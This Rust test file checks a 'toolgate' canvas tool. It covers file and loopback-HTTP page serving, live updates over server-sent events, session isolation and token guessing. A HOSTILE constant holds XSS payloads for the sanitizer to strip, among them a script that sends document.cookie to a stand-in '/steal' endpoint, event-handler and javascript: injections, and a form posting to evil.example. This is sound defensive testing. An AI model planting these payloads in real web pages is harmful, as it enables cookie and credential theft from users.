//! `canvas` through `Gate::call`: without a server its page is a file in the workspace; with the
//! gate's mounts on a real `toolgate-mcp` HTTP server on loopback, pages at `/canvas/TOKEN` that
//! follow every change over server-sent events, hostile content neutralized, and one session's
//! board out of another's reach.

use std::sync::Arc;
use std::time::Duration;

use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio_util::sync::CancellationToken;
use toolgate::Gate;
use toolgate::core::ToolOutput;
use toolgate::mcp::{HttpConfig, HttpToken};

/// Every attack the sanitizer and the page's policy must stop, in one piece of content.
const HOSTILE: &str = "<h1>Report</h1><p id=\"marker\">kept text</p>\
    <script>fetch('http://127.0.0.1:9/steal?c=' + document.cookie)</script>\
    <img src=x onerror=\"alert('img')\"><img src=\"https://evil.example/pixel.png\">\
    <a href=\"javascript:alert('link')\">link</a>\
    <svg><script>alert('svg')</script><foreignObject><iframe src=\"https://evil.example/\"></iframe></foreignObject>\
    <circle r=\"4\" fill=\"url(https://evil.example/p.svg#a)\"/></svg>\
    <p style=\"background-image:url(https://evil.example/bg.png)\">styled</p>\
    <meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">\
    <form action=\"https://evil.example/post\" method=\"post\"><input name=\"pw\"><button>send</button></form>";

fn assert_neutralized(html: &str) {
    for bad in [
        "<script",
        "onerror",
        "javascript:",
        "evil.example",
        "foreignObject",
        "<iframe",
        "<meta http-equiv=\"refresh\" content=\"0",
        "<form",
        "alert(",
    ] {
        assert!(!html.contains(bad), "`{bad}` survived: {html}");
    }
    assert!(html.contains("kept text"), "{html}");
}

async fn call(gate: &Gate, session: &str, params: Value) -> ToolOutput {
    let mut ctx = gate.context();
    ctx.identity.session = session.to_owned();
    gate.call(&ctx, "canvas", params).await.unwrap()
}

fn meta(out: &ToolOutput, key: &str) -> Value {
    out.meta.as_ref().and_then(|m| m.get(key)).cloned().unwrap_or(Value::Null)
}

#[tokio::test]
async fn without_a_server_the_canvas_is_a_self_reloading_file_a_later_process_continues() {
    let dir = tempfile::tempdir().unwrap();
    let gate = Gate::builder(dir.path()).no_audit().build().unwrap();
    let out = call(&gate, "s1", json!({"action": "present", "content": HOSTILE, "title": "<b>Q3</b>"})).await;
    let text = out.text_content();
    let file = std::path::PathBuf::from(meta(&out, "file").as_str().unwrap());
    assert!(file.starts_with(dir.path().canonicalize().unwrap().join(".toolgate/canvas")), "{}", file.display());
    assert!(text.contains("file://") && text.contains("toolgate serve --http"), "{text}");
    assert!(text.contains("sanitizer removed"), "{text}");
    let page = std::fs::read_to_string(&file).unwrap();
    assert_neutralized(&page);
    assert!(page.contains("<meta http-equiv=\"refresh\" content=\"2\">"), "{page}");
    assert!(page.contains("Content-Security-Policy") && page.contains("default-src 'none'"), "{page}");
    assert!(page.contains("&lt;b&gt;Q3&lt;/b&gt;"), "the title is text: {page}");

    // `toolgate call` is one process per call: a new gate continues the same board.
    drop(gate);
    let gate = Gate::builder(dir.path()).no_audit().build().unwrap();
    let out = call(&gate, "s1", json!({"action": "update", "content": "## Next\n\nmore", "section": "next"})).await;
    assert_eq!(meta(&out, "version"), json!(2));
    assert_eq!(meta(&out, "sections"), json!(2));
    assert_eq!(meta(&out, "format"), json!("markdown"));
    let page = std::fs::read_to_string(&file).unwrap();
    assert!(page.contains("kept text") && page.contains("<h2>Next</h2>"), "{page}");

    // Another session has a page of its own.
    let other = call(&gate, "s2", json!({"action": "present", "content": "<p>other</p>"})).await;
    assert_ne!(meta(&other, "file"), meta(&out, "file"));
    assert!(!std::fs::read_to_string(&file).unwrap().contains("other"));

    let cleared = call(&gate, "s1", json!({"action": "clear"})).await;
    assert_eq!(meta(&cleared, "sections"), json!(0));
    assert!(!std::fs::read_to_string(&file).unwrap().contains("kept text"));
}

#[tokio::test]
async fn bad_input_is_refused_with_what_to_do() {
    let dir = tempfile::tempdir().unwrap();
    let gate = Gate::builder(dir.path()).no_audit().build().unwrap();
    let ctx = gate.context();
    for (params, expect) in [
        (json!({"action": "present"}), "needs `content`"),
        (json!({"action": "update", "content": "x", "format": "pdf"}), "format"),
        (json!({"action": "clear", "content": "x"}), "takes no `content`"),
        (json!({"action": "draw"}), "action"),
        (json!({"action": "present", "content": "x".repeat(1024 * 1024 + 1)}), "content"),
    ] {
        let err = gate.call(&ctx, "canvas", params.clone()).await.unwrap_err().to_string();
        assert!(err.contains(expect), "{params:.80}: {err}");
    }
    // Nothing to take a picture of yet.
    let err = gate.call(&ctx, "canvas", json!({"action": "snapshot"})).await.unwrap_err().to_string();
    assert!(err.contains("`present` something first"), "{err}");
}

/// A `toolgate-mcp` HTTP server of `gate` with its families' mounts, on a free loopback port.
async fn serve(gate: &Arc<Gate>) -> (std::net::SocketAddr, CancellationToken) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let mut config = HttpConfig::new(HttpToken::fixed("bearer-token"));
    config.mounts = gate.mounts();
    let shutdown = CancellationToken::new();
    tokio::spawn(toolgate::mcp::serve_http(Arc::clone(gate), listener, config, shutdown.clone()));
    (addr, shutdown)
}

/// One `GET` (no bearer token: the user's browser has none), the whole response.
async fn get(addr: std::net::SocketAddr, path: &str) -> String {
    let mut stream = TcpStream::connect(addr).await.unwrap();
    let request = format!("GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n");
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut out = Vec::new();
    tokio::time::timeout(Duration::from_secs(20), stream.read_to_end(&mut out)).await.unwrap().unwrap();
    String::from_utf8_lossy(&out).into_owned()
}

/// An open event stream: reads until an event whose JSON has `version`, or fails at the deadline.
struct EventStream {
    stream: TcpStream,
    buffer: String,
}

impl EventStream {
    async fn open(addr: std::net::SocketAddr, path: &str) -> EventStream {
        let mut stream = TcpStream::connect(addr).await.unwrap();
        let request = format!("GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n");
        stream.write_all(request.as_bytes()).await.unwrap();
        EventStream { stream, buffer: String::new() }
    }

    async fn until_version(&mut self, version: u64) -> Value {
        let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
        loop {
            let found = self.buffer.lines().filter_map(|l| l.strip_prefix("data: ")).find_map(|data| {
                let event: Value = serde_json::from_str(data).ok()?;
                (event["version"] == json!(version)).then_some(event)
            });
            if let Some(event) = found {
                return event;
            }
            let mut chunk = [0u8; 4096];
            let n = tokio::time::timeout_at(deadline, self.stream.read(&mut chunk))
                .await
                .unwrap_or_else(|_| panic!("no event for version {version}; got: {}", self.buffer))
                .unwrap();
            assert!(n > 0, "the stream ended before version {version}: {}", self.buffer);
            self.buffer.push_str(&String::from_utf8_lossy(&chunk[..n]));
        }
    }
}

fn body(response: &str) -> &str {
    response.split_once("\r\n\r\n").map_or("", |(_, b)| b)
}

#[tokio::test]
async fn served_pages_follow_changes_live_neutralize_attacks_and_keep_sessions_apart() {
    let dir = tempfile::tempdir().unwrap();
    let gate = Arc::new(Gate::builder(dir.path()).no_audit().build().unwrap());
    let (addr, shutdown) = serve(&gate).await;

    let out = call(&gate, "alice", json!({"action": "present", "content": HOSTILE, "title": "Q3"})).await;
    let path = meta(&out, "path").as_str().unwrap().to_owned();
    assert!(out.text_content().contains(&path), "{}", out.text_content());
    assert!(meta(&out, "file").is_null(), "served: no file");
    assert!(!dir.path().join(".toolgate/canvas").exists());

    // The viewer: our script and frame only, no referrer, no caching.
    let viewer = get(addr, &path).await;
    assert!(viewer.starts_with("HTTP/1.1 200"), "{viewer}");
    let lower = viewer.to_ascii_lowercase();
    assert!(lower.contains("content-security-policy: default-src 'none'; script-src 'self';"), "{viewer}");
    assert!(lower.contains("referrer-policy: no-referrer") && lower.contains("cache-control: no-store"), "{viewer}");
    assert!(viewer.contains("<title>Q3</title>"), "{viewer}");
    let frame_of = |page: &str| {
        let at = page.find("/canvas/-/frame/").unwrap();
        page[at..].split('"').next().unwrap().to_owned()
    };
    let first_frame = frame_of(&viewer);
    assert!(!first_frame.contains(&path["/canvas/".len()..]), "the content's address is not the token");

    // The content: sanitized, and a sandbox that may connect nowhere.
    let frame = get(addr, &first_frame).await;
    assert!(frame.starts_with("HTTP/1.1 200"), "{frame}");
    assert!(frame.to_ascii_lowercase().contains("sandbox\r\n") || frame.contains("; sandbox"), "{frame}");
    assert!(!frame.to_ascii_lowercase().contains("connect-src 'self'"), "{frame}");
    assert_neutralized(body(&frame));

    let app = get(addr, "/canvas/-/app.js").await;
    assert!(app.contains("new EventSource"), "{app}");

    // A viewer's stream gets the current version at once, then each change.
    let mut events = EventStream::open(addr, &format!("{path}/events")).await;
    let first = events.until_version(1).await;
    assert_eq!(first["frame"], json!(first_frame));
    call(&gate, "alice", json!({"action": "update", "content": "<p>live <b>update</b></p>", "section": "news"})).await;
    let second = events.until_version(2).await;
    assert_eq!(second["sections"], json!(2));
    let new_frame = second["frame"].as_str().unwrap();
    assert_ne!(new_frame, first_frame);
    assert!(body(&get(addr, new_frame).await).contains("live <b>update</b>"));
    assert!(get(addr, &first_frame).await.starts_with("HTTP/1.1 404"), "a replaced version is gone");

    // Another session: a board and token of its own; it never learns alice's.
    let bob = call(&gate, "bob", json!({"action": "present", "content": "<p>bob's</p>"})).await;
    let bob_path = meta(&bob, "path").as_str().unwrap().to_owned();
    assert_ne!(bob_path, path);
    assert!(!bob.text_content().contains(&path[8..]), "{}", bob.text_content());
    let bob_view = get(addr, &bob_path).await;
    let bob_frame = get(addr, &frame_of(&bob_view)).await;
    assert!(body(&bob_frame).contains("bob's") && !body(&bob_frame).contains("kept text"), "{bob_frame}");
    // Alice's board did not change, and her stream saw nothing of bob's.
    let alice_frame = get(addr, new_frame).await;
    assert!(body(&alice_frame).contains("kept text") && !body(&alice_frame).contains("bob's"));

    // Guesses: a near miss of alice's token, a random one, malformed paths.
    let mut near = path.clone();
    let last = near.pop().unwrap();
    near.push(if last == '0' { '1' } else { '0' });
    for guess in [
        near.as_str(),
        "/canvas/00000000000000000000000000000000",
        "/canvas/-/frame/0",
        "/canvas/../api/approvals",
        "/canvas",
    ] {
        let response = get(addr, guess).await;
        assert!(response.starts_with("HTTP/1.1 404"), "{guess}: {response}");
    }
    let post = {
        let mut stream = TcpStream::connect(addr).await.unwrap();
        let request =
            format!("POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nContent-Length: 0\r\n\r\n");
        stream.write_all(request.as_bytes()).await.unwrap();
        let mut out = String::new();
        stream.read_to_string(&mut out).await.unwrap();
        out
    };
    assert!(post.starts_with("HTTP/1.1 405"), "{post}");
    shutdown.cancel();
}
